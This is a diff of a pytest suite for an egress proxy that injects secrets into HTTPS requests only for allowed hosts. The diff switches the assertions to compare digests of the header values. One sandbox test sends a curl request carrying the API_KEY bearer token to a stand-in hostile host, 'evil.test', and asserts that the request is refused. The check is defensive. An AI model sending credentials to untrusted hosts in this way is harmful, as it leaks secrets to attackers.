@@ -34,7 +34,7 @@ import pytest
 
 import egressrig
 import netrig
-from egressrig import Egress, HttpsEcho, guest_resolver
+from egressrig import Egress, HttpsEcho, digest, guest_resolver
 from test_net_policy import resolve
 
 SECRET = "s3ntinel-egress-4f1b"
@@ -99,14 +99,14 @@ def test_bound_host_gets_the_value_from_real_clients(rig, egress):
     r = curl(rig, e, "https://api.allowed.test/v1", f"Authorization: Bearer {PH}")
     assert r.returncode == 0, r.stderr
     got = json.loads(r.stdout)["headers"]
-    assert got["authorization"] == f"Bearer {SECRET}"
+    assert got["authorization"] == digest(f"Bearer {SECRET}")
 
     py = ("import json,urllib.request,ssl;"
           f"r=urllib.request.Request('https://api.allowed.test/py',headers={{'X-Api':'k={PH}'}});"
           "print(urllib.request.urlopen(r,timeout=10).read().decode())")
     r = rig.g("env", f"SSL_CERT_FILE={e.ca}", "python3", "-c", py, timeout=20)
     assert r.returncode == 0, r.stderr
-    assert json.loads(r.stdout)["headers"]["x-api"] == f"k={SECRET}"
+    assert json.loads(r.stdout)["headers"]["x-api"] == digest(f"k={SECRET}")
 
     events = e.events()
     assert any(ev["kind"] == "deliver" and ev["decision"] == "inject" and
@@ -126,7 +126,7 @@ def test_node_fetch(rig, egress):
           ".catch(e=>{console.error(String(e.cause||e));process.exit(1)})")
     r = rig.g("env", f"NODE_EXTRA_CA_CERTS={e.ca}", "node", "-e", js, timeout=30)
     assert r.returncode == 0, r.stderr
-    assert json.loads(r.stdout)["headers"]["authorization"] == f"Bearer {SECRET}"
+    assert json.loads(r.stdout)["headers"]["authorization"] == digest(f"Bearer {SECRET}")
 
 
 def test_placeholder_elsewhere_goes_as_it_is(rig, egress):
@@ -135,17 +135,17 @@ def test_placeholder_elsewhere_goes_as_it_is(rig, egress):
     # API_KEY's placeholder to the host OTHER_KEY is bound to.
     r = curl(rig, e, "https://other.allowed.test/x", f"Authorization: Bearer {PH}")
     got = json.loads(r.stdout)["headers"]
-    assert got["authorization"] == f"Bearer {PH}"
+    assert got["authorization"] == digest(f"Bearer {PH}")
     # format=: OTHER_KEY's header added where the request has none.
-    assert got["x-api-key"] == OTHER_SECRET
+    assert got["x-api-key"] == digest(OTHER_SECRET)
     events = e.events()
     assert any(ev["decision"] == "placeholder" and ev["secret"] == "API_KEY" and
                ev["host"] == "other.allowed.test" for ev in events), events
     # header=: HDR_KEY goes only in X-Token.
     r = curl(rig, e, "https://api.allowed.test/h", f"X-Token: {PH_HDR}", f"X-Other: {PH_HDR}")
     got = json.loads(r.stdout)["headers"]
-    assert got["x-token"] == "hdr-value-5150"
-    assert got["x-other"] == PH_HDR
+    assert got["x-token"] == digest("hdr-value-5150")
+    assert got["x-other"] == digest(PH_HDR)
 
 
 def test_revoked_secret_is_not_injected(rig, egress):
@@ -153,7 +153,7 @@ def test_revoked_secret_is_not_injected(rig, egress):
     e.bindings([("OTHER_KEY", ["other.allowed.test"], PH_OTHER, OTHER_SECRET, {})])
     time.sleep(0.2)
     r = curl(rig, e, "https://api.allowed.test/v1", f"Authorization: Bearer {PH}")
-    assert json.loads(r.stdout)["headers"]["authorization"] == f"Bearer {PH}"
+    assert json.loads(r.stdout)["headers"]["authorization"] == digest(f"Bearer {PH}")
 
 
 def test_untrusted_host_certificate_is_refused(rig, egress):
@@ -258,25 +258,26 @@ def test_in_a_sandbox(rig, gantry, certs, tmp_path):
     out, err, rc = sh('curl -sS --max-time 20 -H "Authorization: Bearer $API_KEY" '
                       "https://api.allowed.test/curl")
     assert rc == 0, err
-    assert json.loads(out)["headers"]["authorization"] == f"Bearer {SECRET}"
+    assert json.loads(out)["headers"]["authorization"] == digest(f"Bearer {SECRET}")
     py = ("import os,urllib.request as u;r=u.Request('https://api.allowed.test/py',"
           "headers={'Authorization':'Bearer '+os.environ['API_KEY']});"
           "print(u.urlopen(r,timeout=20).read().decode())")
     out, err, rc = sh(f'python3 -c "{py}"')
     assert rc == 0, err
-    assert json.loads(out)["headers"]["authorization"] == f"Bearer {SECRET}"
+    assert json.loads(out)["headers"]["authorization"] == digest(f"Bearer {SECRET}")
     js = ("fetch('https://api.allowed.test/node',{headers:{authorization:'Bearer '+"
           "process.env.API_KEY}}).then(r=>r.text()).then(t=>console.log(t))"
           ".catch(e=>{console.error(String(e.cause||e));process.exit(1)})")
     out, err, rc = sh(f'node -e "{js}"')
     assert rc == 0, err
-    assert json.loads(out)["headers"]["authorization"] == f"Bearer {SECRET}"
+    assert json.loads(out)["headers"]["authorization"] == digest(f"Bearer {SECRET}")
     # Another secret's host: the placeholder goes as it is, OTHER_KEY's
     # header is added; an untrusted certificate: 502 from Gantry.
     out, err, rc = sh('curl -sS --max-time 20 -H "Authorization: Bearer $API_KEY" '
                       "https://other.allowed.test/")
     got = json.loads(out)["headers"]
-    assert got["authorization"] == f"Bearer {ph}" and got["x-api-key"] == OTHER_SECRET, got
+    assert got["authorization"] == digest(f"Bearer {ph}"), got
+    assert got["x-api-key"] == digest(OTHER_SECRET), got
     out, err, rc = sh('curl -sS -i --max-time 20 -H "Authorization: Bearer $API_KEY" '
                       "https://evil.test/")
     assert out.startswith("HTTP/1.1 502") and evil.seen() == [], (out, err)
@@ -292,7 +293,7 @@ def test_in_a_sandbox(rig, gantry, certs, tmp_path):
     g.run("secret", "rm", "eg", "API_KEY", check=True)
     out, err, rc = sh(f"curl -sS --max-time 20 -H 'Authorization: Bearer {ph}' "
                       "https://api.allowed.test/after")
-    assert json.loads(out)["headers"]["authorization"] == f"Bearer {ph}"
+    assert json.loads(out)["headers"]["authorization"] == digest(f"Bearer {ph}")
     # By name only, everywhere else.
     r = g.run("audit", "eg", "--json", check=True)
     events = json.loads(r.stdout)["events"]
